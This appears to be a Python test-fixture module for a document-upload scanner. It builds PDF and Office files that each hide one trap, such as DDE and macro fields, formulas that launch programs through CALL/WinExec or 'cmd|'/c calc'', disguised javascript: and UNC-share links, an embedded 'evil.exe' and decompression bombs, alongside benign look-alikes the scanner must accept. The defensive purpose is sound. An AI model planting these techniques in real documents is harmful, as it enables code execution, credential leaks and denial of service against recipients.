"""Files with one trap each, and good ones that look alike: what PDF and Office can do, and what real papers do."""

import zipfile
import zlib
from io import BytesIO

import pikepdf
from openpyxl import Workbook
from openpyxl.chart import BarChart, Reference
from pikepdf import Array, Dictionary, Name, String

from tests.records.test_uploads import ACTIVE, DAMAGED, DISGUISED, ENDINGS, LINKED, MACROS, TOO_MUCH, pdf, picture, word

STOWAWAY = "The file carries another file inside it that is no document. Take that out, and save it again."
LINK = "A link in the file leads to a file or a program. Leave only links to web pages and e-mail addresses."
COMMAND = "The file starts a program when it is opened. Save it without links to other programs."
RELATIONSHIPS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MICROSOFT = "http://schemas.microsoft.com/office/2006/relationships"
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600
SCRIPT = "javascript:alert(1)"
URL = "https://www.iom.int/"


def told_field(name: str) -> str:
    """What is told of a field of Word that is not known."""
    return f"The file holds the field “{name}”, which cannot be kept. Turn it into plain text."


# PDF ------------------------------------------------------------------------------------------------------------------


def pdf_with(change, **how) -> bytes:
    """A PDF of one page that is changed."""
    document, file = pikepdf.new(), BytesIO()
    document.add_blank_page()
    change(document)
    document.save(file, **how)
    return file.getvalue()


def root(**told) -> bytes:
    """A PDF that says this about itself."""
    return pdf(**told)


def page(**told) -> bytes:
    """A PDF whose page says this."""
    return pdf_with(lambda document: [document.pages[0].obj.__setitem__(f"/{key}", told[key]) for key in told])


def note(subtype: str = "Link", **told) -> Array:
    """One thing on a page that can be pressed or seen."""
    return Array([Dictionary(Type=Name.Annot, Subtype=Name(f"/{subtype}"), Rect=[0, 0, 9, 9], **told)])


def act(kind: str, **told) -> Dictionary:
    """What a PDF does."""
    return Dictionary(S=Name(f"/{kind}"), **told)


def visit(address: str = URL) -> Dictionary:
    """A visit to an address."""
    return act("URI", URI=address)


def turn(**told) -> Dictionary:
    """A plain turn to the first page."""
    return act("GoTo", D=Array([0, Name.Fit]), **told)


def stream(**told) -> bytes:
    """A PDF with a stream of this kind on its page."""

    def write(document):
        document.pages[0].obj["/Contents"] = document.make_stream(b"q Q", **told)

    return pdf_with(write)


def shown_stream(**told) -> bytes:
    """A PDF with a picture of this kind."""

    def write(document):
        form = document.make_stream(b"", Type=Name.XObject, Subtype=Name.Form, BBox=[0, 0, 1, 1], **told)
        document.pages[0].obj["/Resources"] = Dictionary(XObject=Dictionary(Fm0=form))

    return pdf_with(write)


def attached(**spec) -> bytes:
    """A PDF that carries a file whose stream does not say that it is one."""

    def write(document):
        carried = document.make_indirect(Dictionary(F=String("evil.exe"), EF=Dictionary(F=document.make_stream(b"MZ"))))
        document.pages[0].obj["/Annots"] = note("Text", FS=carried, **spec)

    return pdf_with(write)


def apart(document) -> None:
    """The chain of what is done at the opening, each step an object of its own."""
    last = document.make_indirect(visit())
    document.Root["/OpenAction"] = document.make_indirect(turn(Next=document.make_indirect(turn(Next=Array([last])))))


def round_about(document) -> None:
    """A chain that never ends."""
    first = document.make_indirect(turn())
    first["/Next"] = first
    document.Root["/OpenAction"] = first


def many_objects(number: int) -> bytes:
    """A PDF of this many objects, which stand in a few kilobytes."""

    def write(document):
        document.Root["/X"] = Array([document.make_indirect(Dictionary()) for _each in range(number)])

    return pdf_with(write, object_stream_mode=pikepdf.ObjectStreamMode.generate)


def many_inside(number: int) -> bytes:
    """A PDF in which one object holds this many dictionaries."""
    rows = [Array([Dictionary(A=1)] * 1000) for _each in range(number // 1000)]
    return page(X=Array(rows), AA=Dictionary(O=turn()))


def streams_of_objects(number: int, size: int) -> bytes:
    """A PDF whose objects stand in this many streams, each of which unpacks to this size."""
    file, places = b"%PDF-1.5\n", {}
    packed = [zlib.compress(b"%d 0 " % (100 + each) + b"<<>>" + b" " * size, 9) for each in range(number)]
    objects = {1: b"<< /Type /Catalog /Pages 2 0 R >>", 2: b"<< /Type /Pages /Count 1 /Kids [3 0 R] >>"}
    objects[3] = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>"
    for each, inside in enumerate(packed):
        first = len(b"%d 0 " % (100 + each))
        head = b"<< /Type /ObjStm /N 1 /First %d /Filter /FlateDecode /Length %d >>" % (first, len(inside))
        objects[4 + each] = head + b"\nstream\n" + inside + b"\nendstream"
    for key, content in objects.items():
        places[key] = len(file)
        file += b"%d 0 obj\n%s\nendobj\n" % (key, content)
    rows = []
    for key in range(100 + number):
        if key >= 100:
            rows.append((2, 4 + key - 100, 0))
        else:
            rows.append((1, places[key], 0) if key in places else (0, 0, 0))
    table = b"".join(bytes([kind]) + place.to_bytes(4, "big") + bytes([index]) for kind, place, index in rows)
    head = b"<< /Type /XRef /Size %d /W [1 4 1] /Root 1 0 R /Length %d >>" % (len(rows), len(table))
    return file + b"99 0 obj\n%s\nstream\n%s\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % (head, table, len(file))


def table_of_objects(size: int, packing: bytes = b"/FlateDecode") -> bytes:
    """A PDF with one more table of objects, which unpacks to this size."""
    table = b"9 0 obj << /Type /XRef /Filter %s >> stream\n%s\nendstream" % (packing, zlib.compress(b"\0" * size, 9))
    return pdf().replace(b"%%EOF", table + b"\n%%EOF")


# Office ---------------------------------------------------------------------------------------------------------------


def packed(parts: dict, main_part: str, how: int = zipfile.ZIP_DEFLATED) -> bytes:
    """An Office file of these parts."""
    file = BytesIO()
    with zipfile.ZipFile(file, "w", how) as archive:
        for name, content in {"[Content_Types].xml": "<Types/>", main_part: "<x/>", **parts}.items():
            archive.writestr(name, content)
    return file.getvalue()


def docx(parts: dict | None = None, **how) -> bytes:
    """A Word file with these parts."""
    return packed(parts or {}, "word/document.xml", **how)


def xlsx(parts: dict | None = None) -> bytes:
    """An Excel file with these parts."""
    return packed(parts or {}, "xl/workbook.xml")


def pptx(parts: dict | None = None) -> bytes:
    """A PowerPoint file with these parts."""
    return packed(parts or {}, "ppt/presentation.xml")


def leading(kind: str, target: str, mode: str = "External") -> bytes:
    """A Word file of which a part leads somewhere."""
    one = f'<Relationship Id="r1" Type="{kind}" Target="{target}" TargetMode="{mode}"/>'
    return docx({"word/_rels/document.xml.rels": f"<Relationships>{one}</Relationships>"})


def link(target: str) -> bytes:
    """A Word file with a link."""
    return leading(f"{RELATIONSHIPS}/hyperlink", target)


def typed(content_type: str) -> bytes:
    """A Word file with a part of this kind, under a plain name."""
    types = f'<Types><Override PartName="/word/x.bin" ContentType="{content_type}"/></Types>'
    return docx({"[Content_Types].xml": types, "word/x.bin": b"x"})


def turned(step: str) -> str:
    """One of the marks between which a field stands."""
    return f'<w:r><w:fldChar w:fldCharType="{step}"/></w:r>'


def asks(text: str) -> str:
    """An instruction."""
    return f"<w:r><w:instrText>{text}</w:instrText></w:r>"


def plain(text: str) -> str:
    """What people read."""
    return f"<w:r><w:t>{text}</w:t></w:r>"


def whole(*instruction: str, gives: str = "x") -> str:
    """A whole field."""
    return turned("begin") + "".join(instruction) + turned("separate") + plain(gives) + turned("end")


def body(*runs: str) -> bytes:
    """A Word file with these runs."""
    return docx({"word/document.xml": f"<w:document {W}><w:body><w:p>{''.join(runs)}</w:p></w:body></w:document>"})


def field(text: str) -> bytes:
    """A Word file with one field."""
    return body(whole(asks(text)))


def sheet(formula: str, tag: str = "f") -> bytes:
    """An Excel file with one formula."""
    return xlsx({"xl/worksheets/sheet1.xml": f"<worksheet><c><{tag}>{formula}</{tag}><v>1</v></c></worksheet>"})


def drawn(element: str) -> bytes:
    """A Word file with one drawing of the old kind."""
    spaces = 'xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office"'
    return docx({"word/header1.xml": f"<w:hdr {W} {spaces}>{element}</w:hdr>"})


def pressed(action: str) -> bytes:
    """Slides on which something can be pressed."""
    return pptx({"ppt/slides/slide1.xml": f'<sld><hlinkClick action="{action}"/></sld>'})


def inside(content: bytes, name: str = "ppt/embeddings/oleObject1.bin") -> bytes:
    """Slides that carry something."""
    return pptx({name: content})


MANY_FIELDS = "<w:document " + W + ">" + "instrText" * 40_000 + "</w:document>"

HOSTILE = {
    # what it is called
    "an old Word file with a second ending": ("Note.doc.pdf", pdf(), ENDINGS),
    "a Word file with a second ending": ("v.2.docx.pdf", pdf(), ENDINGS),
    "a PDF with two endings": ("Statement.pdf.pdf", pdf(), ENDINGS),
    "a picture with a second ending": ("Poster.JPG.png", picture("PNG"), ENDINGS),
    "a program in a second ending with a version": ("v1.2.exe.pdf", pdf(), ENDINGS),
    # what a PDF carries
    "a file that does not say that it is one": ("x.pdf", attached(), ACTIVE),
    "a file pinned to a page": ("x.pdf", page(Annots=note("FileAttachment")), ACTIVE),
    "a file that belongs to a PDF": ("x.pdf", root(AF=Array([])), ACTIVE),
    "a portfolio": ("x.pdf", root(Collection=Dictionary()), ACTIVE),
    "a stream that stands in another file": ("x.pdf", stream(F=String("\\\\198.51.100.7\\x")), ACTIVE),
    "a stream that stands at an address": ("x.pdf", stream(F=Dictionary(FS=Name.URL, F=String(URL))), ACTIVE),
    "a page of another file": ("x.pdf", shown_stream(Ref=Dictionary(F=String("x.pdf"), Page=0)), ACTIVE),
    "a picture for the press": ("x.pdf", shown_stream(OPI=Dictionary()), ACTIVE),
    "a file at an address": ("x.pdf", page(X=Dictionary(FS=Name.URL, F=String(URL))), ACTIVE),
    # what a PDF does by itself
    "a visit after a turn at the opening": ("x.pdf", root(OpenAction=turn(Next=visit())), ACTIVE),
    "a visit after two turns, in pieces": ("x.pdf", pdf_with(apart), ACTIVE),
    "a visit in a row at the opening": ("x.pdf", root(OpenAction=turn(Next=Array([turn(), visit()]))), ACTIVE),
    "a chain without end": ("x.pdf", pdf_with(round_about), ACTIVE),
    "a print at the opening": ("x.pdf", root(OpenAction=act("Named", N=Name.Print)), ACTIVE),
    "a visit before the printing": ("x.pdf", root(AA=Dictionary(WP=visit())), ACTIVE),
    "a visit when a page is left": ("x.pdf", page(AA=Dictionary(C=visit())), ACTIVE),
    "a visit when a note comes into sight": ("x.pdf", page(Annots=note(AA=Dictionary(PV=visit()))), ACTIVE),
    "a visit when a note is on an open page": ("x.pdf", page(Annots=note(AA=Dictionary(PO=visit()))), ACTIVE),
    "a visit when a pointer comes near": ("x.pdf", page(Annots=note(AA=Dictionary(E=turn(Next=visit())))), ACTIVE),
    "a field that hides another": ("x.pdf", page(Annots=note("Text", AA=Dictionary(Fo=act("Hide")))), ACTIVE),
    "a thread in another file": ("x.pdf", page(Annots=note(A=act("Thread", F=String("x.pdf"), D=0))), ACTIVE),
    "a script after a turn": ("x.pdf", page(Annots=note(A=turn(Next=act("JavaScript", JS="x")))), ACTIVE),
    # where a PDF leads
    "a link after a turn": ("x.pdf", page(Annots=note(A=turn(Next=visit(SCRIPT)))), LINK),
    "a link with a base": ("x.pdf", root(URI=Dictionary(Base=String("file:///c:/"))), LINK),
    "a link without a scheme, to a host": ("x.pdf", page(Annots=note(A=visit("//198.51.100.7/share"))), LINK),
    "a link to a share with slashes": ("x.pdf", page(Annots=note(A=visit("\\\\198.51.100.7/share"))), LINK),
    "a link behind a mark of order": ("x.pdf", page(Annots=note(A=visit("\ufeffjavascript:alert(1)"))), LINK),
    "a link in wide letters": ("x.pdf", page(Annots=note(A=visit("javascript:alert('é—')"))), LINK),
    "a link behind an unseen letter": ("x.pdf", page(Annots=note(A=visit("\u200bsearch-ms:query=x"))), LINK),
    "a link to Word": ("x.pdf", page(Annots=note(A=visit("ms-word:ofe|u|https://example.org/x.docx"))), LINK),
    "a link to a file beside it": ("x.pdf", page(Annots=note(A=visit("evil.exe"))), LINK),
    "a link to a server of files": ("x.pdf", page(Annots=note(A=visit("ftp://198.51.100.7/x.exe"))), LINK),
    # how much a PDF is
    "more objects than anybody needs": ("x.pdf", many_objects(100_001), TOO_MUCH),
    "more inside one object than anybody needs": ("x.pdf", many_inside(400_000), TOO_MUCH),
    "streams of objects that unpack to too much": ("x.pdf", streams_of_objects(9, 8_000_000), TOO_MUCH),
    "a table of objects that unpacks to too much": ("x.pdf", table_of_objects(5_000_000), TOO_MUCH),
    "a table of objects that is packed twice": (
        "x.pdf",
        table_of_objects(9, b"[/FlateDecode /FlateDecode]"),
        DAMAGED,
    ),
    "more changes than anybody makes": ("x.pdf", pdf().replace(b"\n", b"\n%" + b"/XR#65f " * 17 + b"\n", 1), TOO_MUCH),
    # where an Office file leads
    "a share": ("x.docx", link("\\\\198.51.100.7\\x"), LINK),
    "a host without a scheme": ("x.docx", link("//198.51.100.7/x"), LINK),
    "a file of the disk": ("x.docx", link("file:///C:/x.exe"), LINK),
    "a file beside it": ("x.docx", link("evil.exe"), LINK),
    "a search": ("x.docx", link("search-ms:query=x"), LINK),
    "a link behind a mark of order in Word": ("x.docx", link("\ufeffjavascript:alert(1)"), LINK),
    "a link with a tab in it": ("x.docx", link("java&#9;script:alert(1)"), LINK),
    "a share as a part": ("x.docx", leading(f"{RELATIONSHIPS}/image", "\\\\198.51.100.7\\x.png", "Internal"), LINKED),
    "a style from elsewhere": ("x.docx", leading(f"{RELATIONSHIPS}/styles", URL), LINKED),
    "a kind that nobody knows, from elsewhere": ("x.docx", leading("http://example.org/new", URL), LINKED),
    "a source of a mailing": ("x.docx", leading(f"{RELATIONSHIPS}/mailMergeSource", URL), LINKED),
    "a question to a database": (
        "x.docx",
        docx({"word/settings.xml": f'<w:settings {W}><w:connectString w:val="DSN=x"/></w:settings>'}),
        LINKED,
    ),
    "a picture of the old kind from elsewhere": ("x.docx", drawn('<v:imagedata src="http://example.org/x"/>'), LINKED),
    "a picture of the old kind on a share": ("x.docx", drawn('<v:imagedata src="\\\\198.51.100.7\\x"/>'), LINKED),
    "a pattern of the old kind": ("x.docx", drawn('<v:fill o:href="http://example.org/x"/>'), LINKED),
    "a drawing of the web from elsewhere": (
        "x.docx",
        docx({"word/media/x.svg": '<svg><image href="https://example.org/x"/></svg>'}),
        LINKED,
    ),
    # what an Office file runs
    "a control": ("x.docx", docx({"word/activeX/activeX1.xml": "<ax/>"}), STOWAWAY),
    "a control by its kind": ("x.docx", typed("application/vnd.ms-office.activeX+xml"), STOWAWAY),
    "a control by where it leads": ("x.docx", leading(f"{RELATIONSHIPS}/control", "x.xml", "Internal"), STOWAWAY),
    "a sheet of macros": ("x.xlsx", xlsx({"xl/macrosheets/sheet1.xml": "<x/>"}), MACROS),
    "a sheet of macros by its kind": ("x.docx", typed("application/vnd.ms-excel.macrosheet+xml"), MACROS),
    "a sheet of macros by where it leads": (
        "x.docx",
        leading(f"{MICROSOFT}/xlMacrosheet", "x.xml", "Internal"),
        MACROS,
    ),
    "a connection": ("x.xlsx", xlsx({"xl/connections.xml": "<connections/>"}), LINKED),
    "a connection by where it leads": (
        "x.docx",
        leading(f"{RELATIONSHIPS}/connections", "x.xml", "Internal"),
        LINKED,
    ),
    "a link to another table": (
        "x.xlsx",
        xlsx(
            {
                "xl/externalLinks/_rels/externalLink1.xml.rels": (
                    f'<Relationships><Relationship Type="{RELATIONSHIPS}/externalLinkPath" Target="{URL}x.xlsx" '
                    'TargetMode="External"/></Relationships>'
                )
            }
        ),
        LINKED,
    ),
    "a slide that starts a program": ("x.pptx", pressed("ppaction://program"), COMMAND),
    "a slide that starts a macro": ("x.pptx", pressed("ppaction://macro?name=x"), COMMAND),
    "a slide that opens a file": ("x.pptx", pressed("ppaction://hlinkfile"), LINK),
    # what Word works out
    "a link by DDE": ("x.docx", field("DDEAUTO c:\\\\cmd.exe x"), COMMAND),
    "DDE in small letters": ("x.docx", field("dde cmd x"), COMMAND),
    "a button for a macro": ("x.docx", field("MACROBUTTON x Press"), COMMAND),
    "orders to a printer": ("x.docx", field("PRINT x"), COMMAND),
    "a picture by a field": ("x.docx", field('INCLUDEPICTURE "http://example.org/x.png" \\d'), LINKED),
    "a text by a field": ("x.docx", field('INCLUDETEXT "\\\\\\\\198.51.100.7\\\\x"'), LINKED),
    "a table by a field": ("x.docx", field("LINK Excel.Sheet.12 x"), LINKED),
    "an old picture by a field": ("x.docx", field("IMPORT x"), LINKED),
    "a database by a field": ("x.docx", field("DATABASE \\d x"), LINKED),
    "another paper by a field": ("x.docx", field("RD x.docx"), LINKED),
    "a field that nobody knows": ("x.docx", field("FROBNICATE x"), told_field("FROBNICATE")),
    "a simple field": ("x.docx", body('<w:fldSimple w:instr="INCLUDEPICTURE x"/>'), LINKED),
    "a field in pieces": ("x.docx", body(whole(asks("INCLUDE"), plain(""), asks("PICTURE x"))), LINKED),
    "a field in plain text": ("x.docx", body(whole(plain("DDEAUTO cmd x"))), COMMAND),
    "a field whose name is worked out": (
        "x.docx",
        body(whole(whole(asks("QUOTE 68 68 69"), gives="DDE"), asks(" cmd x"))),
        told_field("?"),
    ),
    "a field inside a field": ("x.docx", body(whole(asks("IF 1 = 1 "), whole(asks("DDE cmd x")))), COMMAND),
    "a field without an end": ("x.docx", body(turned("begin"), asks("DDE cmd x")), COMMAND),
    "a field that was taken out": (
        "x.docx",
        body(turned("begin"), "<w:delInstrText>DDE cmd x</w:delInstrText>", turned("end")),
        COMMAND,
    ),
    "fields in one another without end": ("x.docx", body((turned("begin") + asks("IF ")) * 21), TOO_MUCH),
    "a link of a field to a script": ("x.docx", field(f'HYPERLINK "{SCRIPT}"'), LINK),
    "a link of a field to a share": ("x.docx", field('HYPERLINK "\\\\\\\\198.51.100.7\\\\x"'), LINK),
    "a link of a field that is worked out": (
        "x.docx",
        body(whole(asks("HYPERLINK "), whole(asks("DOCVARIABLE x"), gives=""))),
        LINK,
    ),
    # what Excel works out
    "a formula that asks the web": ("x.xlsx", sheet('_xlfn.WEBSERVICE("http://example.org/"&amp;A1)'), LINKED),
    "a formula that shows a picture": ("x.xlsx", sheet('_xlfn.IMAGE("http://example.org/x")'), LINKED),
    "a formula that calls": ("x.xlsx", sheet('CALL("Kernel32","WinExec","JCJ","calc",0)'), COMMAND),
    "a formula that registers": ("x.xlsx", sheet('register.id("x","y")'), COMMAND),
    "a formula that runs": ("x.xlsx", sheet('EXEC ("calc")'), COMMAND),
    "a formula that asks a program": ("x.xlsx", sheet('RTD("x",,"y")'), COMMAND),
    "a formula of DDE": ("x.xlsx", sheet("cmd|'/c calc'!A0"), COMMAND),
    "a formula of DDE in quotes": ("x.xlsx", sheet("'cmd'|'/c calc'!'A0'"), COMMAND),
    "a name that runs": ("x.xlsx", xlsx({"xl/workbook.xml": "<w><definedName>EXEC(1)</definedName></w>"}), COMMAND),
    "a rule that calls": ("x.xlsx", sheet('CALL("x")', "formula1"), COMMAND),
    "a formula that links to a share": ("x.xlsx", sheet('HYPERLINK("\\\\198.51.100.7\\x","press")'), LINK),
    # what is inside
    "an old document inside": ("x.pptx", inside(OLE), STOWAWAY),
    "an old document that says docx": ("x.pptx", inside(OLE, "ppt/embeddings/x.docx"), STOWAWAY),
    "an equation": ("x.docx", docx({"word/embeddings/oleObject1.bin": OLE + b"E\0q\0u\0"}), STOWAWAY),
    "an old document elsewhere": ("x.docx", docx({"word/media/image1.png": OLE}), STOWAWAY),
    "an archive elsewhere": ("x.docx", docx({"word/media/image1.png": packed({}, "x.txt")}), STOWAWAY),
    "something that says docx": ("x.pptx", inside(b"x", "ppt/embeddings/x.docx"), STOWAWAY),
    "a script inside a Word file inside": ("x.pptx", inside(link(SCRIPT), "ppt/embeddings/x.docx"), LINK),
    "macros inside, under a plain name": ("x.pptx", inside(docx({"word/vbaProject.bin": b"x"})), MACROS),
    "a file inside a file inside": ("x.pptx", inside(pptx({"ppt/embeddings/x.docx": docx()})), TOO_MUCH),
    # how it is written
    "a part that is broken markup under another name": ("x.docx", docx({"word/x.bin": "<x>"}), DAMAGED),
    "a command under another name": (
        "x.docx",
        docx({"word/x.bin": f"\ufeff <w:document {W}>{whole(asks('DDE cmd x'))}</w:document>"}),
        COMMAND,
    ),
    "a part in wide letters under another name": ("x.docx", docx({"word/x.bin": "<x/>".encode("utf-16")}), DAMAGED),
    "a control behind a percent sign": ("x.docx", docx({"word/active%58/x.xml": "<x/>"}), STOWAWAY),
    "a part that is packed in an unusual way": ("x.docx", docx(how=zipfile.ZIP_LZMA), DISGUISED),
    "a part larger than anybody writes": ("x.docx", docx({"word/x.xml": f"<x>{' ' * 10_500_000}</x>"}), TOO_MUCH),
    "more relationships than anybody needs": ("x.docx", docx({"_rels/.rels": f"<x>{' ' * 1_100_000}</x>"}), TOO_MUCH),
    "more elements than anybody writes": (
        "x.docx",
        docx({f"word/{number}.xml": f"<x>{'<y/>' * 260_000}</x>" for number in range(4)}),
        TOO_MUCH,
    ),
    "a formula longer than Excel takes": ("x.xlsx", sheet("1+" * 20_000 + "1"), TOO_MUCH),
}


def real_table() -> bytes:
    """A table with formulas and a chart."""
    book, file = Workbook(), BytesIO()
    sheet = book.active
    for row in (["Country", "Persons"], ["Chad", 10], ["Niger", 20], ["Sum", "=SUM(B2:B3)"]):
        sheet.append(row)
    sheet["C1"] = '=HYPERLINK("https://www.iom.int/","IOM")'
    sheet["C2"] = '=IF(B2>5,"a|b call(me)","")'
    sheet["C3"], sheet["C3"].hyperlink = "IOM", URL
    chart = BarChart()
    chart.add_data(Reference(sheet, min_col=2, min_row=1, max_row=3), titles_from_data=True)
    sheet.add_chart(chart, "E2")
    book.save(file)
    return file.getvalue()


def real_pdf() -> bytes:
    """A PDF with links, an outline, a turn to its first page at the opening, and a form without acts."""

    def write(document):
        document.add_blank_page()
        with document.open_outline() as outline:
            outline.root += [pikepdf.OutlineItem("Opening", 0), pikepdf.OutlineItem("Closing", 1)]
        document.Root["/OpenAction"] = turn()
        links = [visit(each) for each in (URL, "mailto:idm@example.org", "tel:+41227179111", "www.iom.int", "#page=2")]
        document.pages[0].obj["/Annots"] = Array([note(A=each)[0] for each in [*links, turn(), visit("HTTP://x.org")]])
        document.pages[1].obj["/AA"] = Dictionary(O=turn())
        widget = note("Widget", FT=Name.Tx, T=String("name"), A=act("Named", N=Name.NextPage))[0]
        document.pages[1].obj["/Annots"] = Array([document.make_indirect(widget)])
        document.Root["/AcroForm"] = Dictionary(Fields=document.pages[1].obj["/Annots"])

    return pdf_with(write)


PAGED = body(whole(asks(" PAGE  \\* MERGEFORMAT ")), plain(" / "), whole(asks(" NUMPAGES ")))
CONTENTS = body(
    whole(
        asks(' TOC \\o "1-3" \\h \\z \\u '),
        gives="",
    ).removesuffix(turned("end")),
    whole(asks(' HYPERLINK \\l "_Toc1" '), gives="1"),
    whole(asks(" PAGEREF _Toc1 \\h ")),
    turned("end"),
)
SLIDES = pptx(
    {
        "ppt/media/image1.png": picture("PNG"),
        "ppt/slides/slide1.xml": '<sld><hlinkClick action="ppaction://hlinksldjump"/><hlinkClick action=""/></sld>',
        "ppt/slides/_rels/slide1.xml.rels": (
            f'<Relationships><Relationship Type="{RELATIONSHIPS}/hyperlink" Target="{URL}" TargetMode="External"/>'
            f'<Relationship Type="{RELATIONSHIPS}/image" Target="../media/image1.png"/></Relationships>'
        ),
    }
)
COMMENTS = xlsx({"xl/drawings/vmlDrawing1.vml": "<xml><div>one<br>two</div></xml>"})

GOOD = {
    "an address in a name": ("Statement www.iom.com.pdf", pdf()),
    "a country in a name": ("Statement (U.S.com).pdf", pdf()),
    "an ending inside a word": ("NGO.sh statement.pdf", pdf()),
    "a name like a program": ("Mr. J.Com.pdf", pdf()),
    "a version": ("Programme v.2.pdf", pdf()),
    "a date": ("Statement 12.03.2026.docx", word()),
    "a PDF with links, an outline and a form": ("Statement.pdf", real_pdf()),
    "a link of Word": ("x.docx", link(URL)),
    "a link of Word to a person": ("x.docx", link("mailto:idm@example.org?subject=On%20Bridges")),
    "a link of Word to a place": ("x.docx", link("#_Toc1")),
    "page numbers": ("x.docx", PAGED),
    "a table of contents": ("x.docx", CONTENTS),
    "a link by a field": ("x.docx", field(f' HYPERLINK "{URL}" \\l "top" \\o "IOM" ')),
    "a link by a field to a place, with a hint": ("x.docx", field(' HYPERLINK \\o "To the top" \\l "top" ')),
    "a date that is worked out": ("x.docx", field(' DATE \\@ "d MMMM yyyy" ')),
    "a citation": ("x.docx", field(' ADDIN ZOTERO_ITEM CSL_CITATION {"DDE x": "INCLUDETEXT"} ')),
    "a condition": ("x.docx", body(whole(asks("IF "), whole(asks("PAGE")), asks(' = 1 "a" "b"')))),
    "a field of a form": ("x.docx", field(" FORMTEXT ")),
    "a word that is a command elsewhere": ("x.docx", body(plain("DDEAUTO cmd x"))),
    "a picture of the old kind": ("x.docx", drawn('<v:imagedata r:id="r1" o:title="x" xmlns:r="r"/>')),
    "a comment of Excel": ("x.xlsx", COMMENTS),
    "a table with formulas and a chart": ("x.xlsx", real_table()),
    "a table that refers to a sheet with a bar": ("x.xlsx", sheet("'a|b'!A1")),
    "slides with pictures and links": ("x.pptx", SLIDES),
    "slides with a table inside": ("x.pptx", inside(real_table(), "ppt/embeddings/Microsoft_Excel_Sheet1.xlsx")),
    "a Word file inside, under a plain name": ("x.pptx", inside(docx())),
    "a long word that no field is": ("x.docx", docx({"word/a.xml": MANY_FIELDS})),
}
